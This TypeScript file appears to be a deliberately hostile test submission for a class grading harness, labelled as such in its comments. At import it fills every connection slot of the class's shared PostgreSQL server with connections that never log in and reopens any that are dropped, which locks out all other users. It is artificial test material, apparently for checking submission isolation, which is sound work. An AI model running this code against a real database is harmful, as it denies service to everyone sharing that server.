// @ts-nocheck
// Hostile, to the class's PostgreSQL: at import, fills every connection slot with connections that never log
// in (and opens another whenever the server drops one), then serves the reference's routes. On a server the
// class shared, every classmate's connection was refused ("too many clients").
// {{SOLUTION}}
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
const { postgres } = JSON.parse(readFileSync(process.env.GRADE_JOB, 'utf8'));
// One connection opened at a time: the slots fill, and the server's queue of connections not yet accepted
// never does, so what a connection of its own meets is the server's refusal, not a full queue.
let opening = Promise.resolve();
const hold = () =>
	new Promise((opened) => {
		const socket = connect(`${postgres.host}/.s.PGSQL.${postgres.port}`);
		socket.once('connect', opened);
		socket.on('error', opened);
		socket.once('close', () => setTimeout(() => (opening = opening.then(hold)), 10));
	});
for (let n = 0; n < 300; n++) opening = opening.then(hold);
await Promise.race([opening, new Promise((resolve) => setTimeout(resolve, 500))]);
